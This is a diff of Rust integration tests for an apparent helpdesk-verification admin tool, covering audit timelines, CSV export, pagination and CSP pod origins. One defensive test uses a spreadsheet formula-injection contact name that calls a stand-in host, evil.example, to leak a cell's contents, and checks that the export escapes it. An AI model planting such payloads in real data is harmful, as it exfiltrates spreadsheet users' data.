@@ -92,6 +92,7 @@ async fn a_technician_gets_403_from_every_admin_page_function_and_the_export() {
         "/settings/users",
         "/audit",
         "/audit/ticket/1",
+        "/audit/ticket/1/1",
         "/audit/export.csv",
     ] {
         let res = app
@@ -115,7 +116,10 @@ async fn a_technician_gets_403_from_every_admin_page_function_and_the_export() {
             vec![("id", "1"), ("password", "0123456789ab")],
         ),
         ("audit", vec![]),
-        ("ticket_timeline", vec![("ticket", "1")]),
+        (
+            "ticket_timeline",
+            vec![("connection", "1"), ("ticket", "1")],
+        ),
         ("test_connection", vec![("id", "1")]),
         ("connect_psa", vec![("id", "1")]),
         (
@@ -758,8 +762,13 @@ async fn an_organization_set_up_by_an_admin_verifies_and_everything_is_audited()
     assert_eq!(outcome["state"], "approved");
 
     // The audit log holds the admin's changes and the verification, filterable.
-    let rows = ok(&admin, url, "audit", &[("query[organization]", &org_s)]).await;
-    let rows = rows.as_array().expect("rows").clone();
+    let listing = ok(&admin, url, "audit", &[("query[organization]", &org_s)]).await;
+    assert_eq!(
+        listing["total"].as_i64(),
+        listing["rows"].as_array().map(|r| r.len() as i64),
+        "{listing}"
+    );
+    let rows = listing["rows"].as_array().expect("rows").clone();
     let actions: Vec<&str> = rows.iter().filter_map(|r| r["action"].as_str()).collect();
     for action in [
         "organization created",
@@ -793,7 +802,11 @@ async fn an_organization_set_up_by_an_admin_verifies_and_everything_is_audited()
         ],
     )
     .await;
-    assert_eq!(approved.as_array().map(Vec::len), Some(1), "{approved}");
+    assert_eq!(
+        approved["rows"].as_array().map(Vec::len),
+        Some(1),
+        "{approved}"
+    );
     let none = ok(
         &admin,
         url,
@@ -801,12 +814,12 @@ async fn an_organization_set_up_by_an_admin_verifies_and_everything_is_audited()
         &[("query[from]", "2000-01-01"), ("query[to]", "2000-01-02")],
     )
     .await;
-    assert_eq!(none.as_array().map(Vec::len), Some(0), "{none}");
+    assert_eq!(none["rows"].as_array().map(Vec::len), Some(0), "{none}");
     let timeline = ok(
         &admin,
         url,
         "ticket_timeline",
-        &[("ticket", &ticket.to_string())],
+        &[("connection", &connection), ("ticket", &ticket.to_string())],
     )
     .await;
     let steps: Vec<&str> = timeline
@@ -946,7 +959,11 @@ async fn users_are_added_disabled_and_given_new_passwords() {
         &[("id", &me), ("disabled", "true")],
     )
     .await;
-    assert_eq!(status, 400, "{body}");
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(
+        body["errors"]["disabled"], "You cannot disable your own account.",
+        "{body}"
+    );
     let audit = app
         .count("SELECT COUNT(*) FROM audit_log WHERE action IN ('user added', 'user disabled', 'user enabled', 'password reset')")
         .await;
@@ -1279,4 +1296,363 @@ async fn autotask_freshdesk_and_halopsa_connections_are_saved_and_tested_against
         assert_eq!(stored[psa.webhook_secret], webhook.as_str());
         assert_eq!(stored[psa.api_secret], "wrong-secret-1234");
     }
+}
+
+/// The CSV export of `query` as the admin downloads it: its records after the header.
+async fn export(admin: &reqwest::Client, url: &str, query: &str) -> Vec<csv::StringRecord> {
+    let res = admin
+        .get(format!("{url}/audit/export.csv?{query}"))
+        .send()
+        .await
+        .expect("export");
+    assert_eq!(res.status(), 200);
+    let body = res.text().await.expect("csv");
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    assert_eq!(
+        reader
+            .headers()
+            .expect("headers")
+            .iter()
+            .collect::<Vec<_>>(),
+        deskproof::admin::AUDIT_CSV_HEADER
+    );
+    reader.records().map(|r| r.expect("record")).collect()
+}
+
+/// The server-rendered HTML of an admin page, with Leptos' markers taken out.
+async fn page(admin: &reqwest::Client, url: &str, path: &str) -> String {
+    let res = admin
+        .get(format!("{url}{path}"))
+        .send()
+        .await
+        .expect("page");
+    assert_eq!(res.status(), 200, "{path}");
+    res.text()
+        .await
+        .expect("html")
+        .replace("<!>", "")
+        .replace("<!-- -->", "")
+}
+
+#[tokio::test]
+async fn a_tickets_timeline_keeps_apart_tickets_of_two_psas_with_the_same_number() {
+    // Arrange: ticket 1234 in ConnectWise and ticket 1234 in Autotask, a push on each, and an
+    // entry from before connections were recorded.
+    let app = spawn_flow().await;
+    let admin = admin_client(&app).await;
+    let url = &app.url;
+    let at = &app.world.autotask;
+    let cw_ticket = app
+        .new_ticket(app.world.contacts.alex, "ConnectWise reset")
+        .await;
+    let at_ticket = at
+        .sim
+        .create_ticket(at.company, Some(at.alex), "Autotask reset")
+        .await
+        .id;
+    assert_eq!(
+        cw_ticket, at_ticket,
+        "both PSAs number their first ticket alike"
+    );
+    let ticket = cw_ticket.to_string();
+    let cw_token = app.link_token(cw_ticket).await;
+    let at_notes = support::flow::wait_until(
+        "autotask link note",
+        || at.sim.notes(at_ticket),
+        |notes| notes.iter().any(|n| n.description.contains("/verify/")),
+    )
+    .await;
+    let at_token = at_notes
+        .iter()
+        .find_map(|n| support::flow::token_in(&n.description))
+        .expect("autotask link");
+    assert_eq!(app.send_push(&cw_token).await["state"], "pushed");
+    app.world
+        .duo
+        .wait_for_push("alex.example", Duration::from_secs(5))
+        .await
+        .expect("push");
+    app.world
+        .duo
+        .approve_latest("alex.example")
+        .expect("approve");
+    app.wait_for_outcome(&cw_token).await;
+    assert_eq!(app.send_push(&at_token).await["state"], "pushed");
+    app.store
+        .append_audit(&deskproof::storage::AuditEntry {
+            actor: "Old Tech".into(),
+            action: "push sent".into(),
+            ticket: Some(ticket.clone()),
+            ..Default::default()
+        })
+        .await
+        .expect("old entry");
+    let (cw, at_id) = (
+        app.world.connection_id.to_string(),
+        at.connection_id.to_string(),
+    );
+
+    // Act
+    let timeline = |connection: &str| {
+        let connection = connection.to_owned();
+        let admin = admin.clone();
+        let ticket = ticket.clone();
+        async move {
+            let rows = ok(
+                &admin,
+                url,
+                "ticket_timeline",
+                &[("connection", &connection), ("ticket", &ticket)],
+            )
+            .await;
+            rows.as_array().expect("rows").clone()
+        }
+    };
+    let on_cw = timeline(&cw).await;
+    let on_at = timeline(&at_id).await;
+    let unrecorded = timeline("").await;
+    let listing = ok(&admin, url, "audit", &[("query[ticket]", &ticket)]).await;
+    let audit_page = page(&admin, url, &format!("/audit?ticket={ticket}")).await;
+    let at_page = page(&admin, url, &format!("/audit/ticket/{at_id}/{ticket}")).await;
+    let cw_csv = export(&admin, url, &format!("connection={cw}&ticket={ticket}")).await;
+    let old_csv = export(&admin, url, &format!("connection=none&ticket={ticket}")).await;
+
+    // Assert
+    let actions = |rows: &[Value]| -> Vec<String> {
+        rows.iter()
+            .map(|r| r["action"].as_str().unwrap_or_default().to_owned())
+            .collect()
+    };
+    assert_eq!(actions(&on_cw), ["push sent", "push answered"], "{on_cw:?}");
+    assert!(on_cw
+        .iter()
+        .all(|r| r["connection_id"] == app.world.connection_id));
+    assert_eq!(actions(&on_at), ["push sent"], "{on_at:?}");
+    assert_eq!(on_at[0]["connection_id"], at.connection_id);
+    assert_eq!(on_at[0]["connection"], "Autotask (simulator)", "{on_at:?}");
+    assert_eq!(actions(&unrecorded), ["push sent"]);
+    assert_eq!(unrecorded[0]["actor"], "Old Tech");
+    // The audit table links each entry to its own connection's timeline.
+    let rows = listing["rows"].as_array().expect("rows");
+    assert_eq!(rows.len(), 4, "{listing}");
+    for link in [
+        format!("href=\"/audit/ticket/{cw}/{ticket}\""),
+        format!("href=\"/audit/ticket/{at_id}/{ticket}\""),
+        format!("href=\"/audit/ticket/{ticket}\""),
+    ] {
+        assert!(audit_page.contains(&link), "{link} missing");
+    }
+    assert!(
+        at_page.contains("PSA connection: Autotask (simulator)"),
+        "{at_page}"
+    );
+    assert_eq!(cw_csv.len(), 2);
+    assert!(cw_csv
+        .iter()
+        .all(|r| r.get(11) == Some("ConnectWise (simulator)")));
+    assert_eq!(old_csv.len(), 1);
+    assert_eq!(old_csv[0].get(2), Some("Old Tech"));
+}
+
+#[tokio::test]
+async fn a_contact_named_like_a_formula_is_exported_as_text() {
+    // Arrange: a contact whose name a spreadsheet would run; no Duo user matches them.
+    let app = spawn_flow().await;
+    let admin = admin_client(&app).await;
+    let name = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
+    let contact = app.world.cw.add_contact_at(
+        Some(app.world.company),
+        name,
+        "Doe",
+        "formula@contoso.example",
+    );
+    let ticket = app.new_ticket(contact, "Formula").await;
+    let token = app.link_token(ticket).await;
+    assert_eq!(app.send_push(&token).await["state"], "refused");
+
+    // Act
+    let records = export(&admin, &app.url, &format!("ticket={ticket}")).await;
+
+    // Assert
+    let refused = records
+        .iter()
+        .find(|r| r.get(3) == Some("push refused"))
+        .expect("the refusal is exported");
+    assert_eq!(refused.get(6), Some(format!("'{name} Doe").as_str()));
+    assert!(records
+        .iter()
+        .flat_map(|r| r.iter())
+        .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));
+}
+
+#[tokio::test]
+async fn the_audit_page_says_when_it_shows_only_the_newest_entries_and_the_export_has_all() {
+    // Arrange: more entries than the page shows.
+    let app = spawn_flow().await;
+    let admin = admin_client(&app).await;
+    let limit = deskproof::admin::AUDIT_LIMIT;
+    sqlx::query(
+        "INSERT INTO audit_log (actor, action, detail) \
+         WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < $1) \
+         SELECT 'Bulk Tech', 'bulk entry', CAST(i AS TEXT) FROM n",
+    )
+    .bind(limit + 150)
+    .execute(&app.db)
+    .await
+    .expect("bulk entries");
+    let stored = app.count("SELECT COUNT(*) FROM audit_log").await;
+    let bulk = limit + 150;
+
+    // Act
+    let all = ok(&admin, &app.url, "audit", &[]).await;
+    let filtered = ok(&admin, &app.url, "audit", &[("query[technician]", "casey")]).await;
+    let html = page(&admin, &app.url, "/audit").await;
+    let records = export(&admin, &app.url, "").await;
+    let bulk_only = export(&admin, &app.url, "technician=bulk").await;
+
+    // Assert
+    assert_eq!(all["rows"].as_array().map(Vec::len), Some(limit as usize));
+    assert_eq!(all["total"], stored);
+    assert_eq!(all["limit"], limit);
+    assert_eq!(filtered["total"], 0, "{filtered}");
+    assert!(
+        html.contains(&format!(
+            "Showing the newest {limit} of {stored} entries; narrow the filters"
+        )),
+        "the page says it is cut short"
+    );
+    assert_eq!(records.len() as i64, stored, "the export has every entry");
+    assert_eq!(bulk_only.len() as i64, bulk);
+    // Newest first, each entry once.
+    let ids: Vec<i64> = records
+        .iter()
+        .map(|r| r.get(0).and_then(|v| v.parse().ok()).expect("id"))
+        .collect();
+    assert!(
+        ids.windows(2).all(|w| w[0] > w[1]),
+        "newest first, no repeats"
+    );
+}
+
+#[tokio::test]
+async fn a_connectwise_connection_from_the_setup_file_keeps_its_pod_origins_when_saved_in_the_form()
+{
+    // Arrange: a connection stored by `deskproof setup` with pod origins.
+    let app = spawn_flow().await;
+    let admin = admin_client(&app).await;
+    let url = &app.url;
+    let cw = app.world.cw.client_config();
+    let file = app.dir.path().join("setup.toml");
+    std::fs::write(
+        &file,
+        format!(
+            r#"
+[[connectwise]]
+name = "From setup"
+base_url = "{base}"
+company_id = "{company}"
+public_key = "{public}"
+private_key = "{private}"
+client_id = "{client}"
+pod_origins = ["https://na.myconnectwise.net", "{screen}"]
+"#,
+            base = cw.base_url,
+            company = cw.company_id,
+            public = cw.public_key,
+            private = cw.private_key.expose(),
+            client = cw.client_id,
+            screen = app.world.cw.url(),
+        ),
+    )
+    .expect("setup file");
+    let key = deskproof::crypto::MasterKey::load_or_create(&app.dir.path().join("master.key"))
+        .expect("master key");
+    deskproof::setup::SetupFile::read(&file)
+        .expect("valid setup file")
+        .apply(&app.store, &key, url)
+        .await
+        .expect("applied");
+    let view = connection_named(&settings(&admin, url).await, "From setup");
+    let id = view["id"].as_i64().expect("id").to_string();
+    let shown = view["settings"]["pod_origins"]
+        .as_str()
+        .expect("pod origins shown")
+        .to_owned();
+    let ancestors = |id: String| async move {
+        let res = reqwest::get(format!("{url}/pod/connectwise/{id}"))
+            .await
+            .expect("pod page");
+        assert_eq!(res.status(), 200);
+        res.headers()
+            .get("content-security-policy")
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or_default()
+            .to_owned()
+    };
+    let form = |pod_origins: Option<&str>| {
+        let mut form: Vec<(String, String)> = vec![
+            ("id".into(), id.clone()),
+            ("kind".into(), "connectwise".into()),
+            ("name".into(), "From setup".into()),
+        ];
+        for name in ["base_url", "company_id", "public_key", "client_id"] {
+            let value = view["settings"][name]
+                .as_str()
+                .unwrap_or_default()
+                .to_owned();
+            form.push((format!("fields[{name}]"), value));
+        }
+        form.push(("fields[private_key]".into(), String::new()));
+        if let Some(origins) = pod_origins {
+            form.push(("fields[pod_origins]".into(), origins.to_owned()));
+        }
+        form
+    };
+    let save = |form: Vec<(String, String)>| {
+        let admin = admin.clone();
+        async move {
+            let pairs: Vec<(&str, &str)> =
+                form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
+            ok(&admin, url, "save_connection", &pairs).await
+        }
+    };
+
+    // Act: saved as the page sends it, then by a form that does not know the field.
+    let as_shown = save(form(Some(&shown))).await;
+    let after_page = ancestors(id.clone()).await;
+    let without_field = save(form(None)).await;
+    let after_old_form = ancestors(id.clone()).await;
+    let bad = save(form(Some("https://na.myconnectwise.net/v4_6_release"))).await;
+    let after_bad = ancestors(id.clone()).await;
+    let changed = save(form(Some(
+        "https://eu.myconnectwise.net,  https://eu.myconnectwise.net/",
+    )))
+    .await;
+    let after_change = ancestors(id.clone()).await;
+
+    // Assert
+    let expected = format!(
+        "frame-ancestors https://na.myconnectwise.net {}; object-src 'none'; base-uri 'self'",
+        app.world.cw.url()
+    );
+    assert_eq!(
+        shown,
+        format!("https://na.myconnectwise.net {}", app.world.cw.url())
+    );
+    for reply in [&as_shown, &without_field, &changed] {
+        assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
+    }
+    assert_eq!(after_page, expected);
+    assert_eq!(after_old_form, expected);
+    assert!(
+        bad["errors"]["pod_origins"]
+            .as_str()
+            .is_some_and(|e| e.contains("scheme://host[:port] only")),
+        "{bad}"
+    );
+    assert_eq!(after_bad, expected, "a refused form stores nothing");
+    assert_eq!(
+        after_change,
+        "frame-ancestors https://eu.myconnectwise.net; object-src 'none'; base-uri 'self'"
+    );
 }
